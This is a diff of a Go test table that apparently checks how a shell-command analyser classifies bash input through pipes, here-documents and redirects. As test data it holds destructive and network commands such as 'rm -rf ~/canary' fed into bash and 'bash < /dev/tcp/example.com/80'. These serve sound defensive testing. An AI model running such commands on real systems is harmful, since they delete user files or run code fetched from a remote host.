@@ -52,7 +52,8 @@ func TestStatementsAndRedirects(t *testing.T) {
 		{"bash < /dev/tcp/example.com/80", opaque}, {"bash < /dev/fd/3", opaque}, {"bash < /proc/1/fd/0", opaque},
 		{"bash <&3", opaque}, {`bash < "$F"`, opaque}, {"bash < ./*.sh", opaque},
 		{"echo 'rm -rf ~/canary' | bash < /dev/stdin", opaque}, {"echo 'rm -rf ~/canary' | bash <&0", opaque},
-		{"bash <<EOF </dev/stdin\nrm -rf ~/canary\nEOF", out},
+		{"bash <<EOF </dev/stdin\nrm -rf ~/canary\nEOF", out}, {"bash <<EOF <&0\nrm -rf ~/canary\nEOF", out},
+		{"bash <<EOF 0<&0\necho hi\nEOF", ""},
 		{"echo 'rm -rf ~/canary' | bash <&-", ""},
 		// A file as stdin replaces the pipe or here-document before it.
 		{"bash < ./script.sh", ""}, {"echo 'rm -rf ~/canary' | bash < ./script.sh", ""},
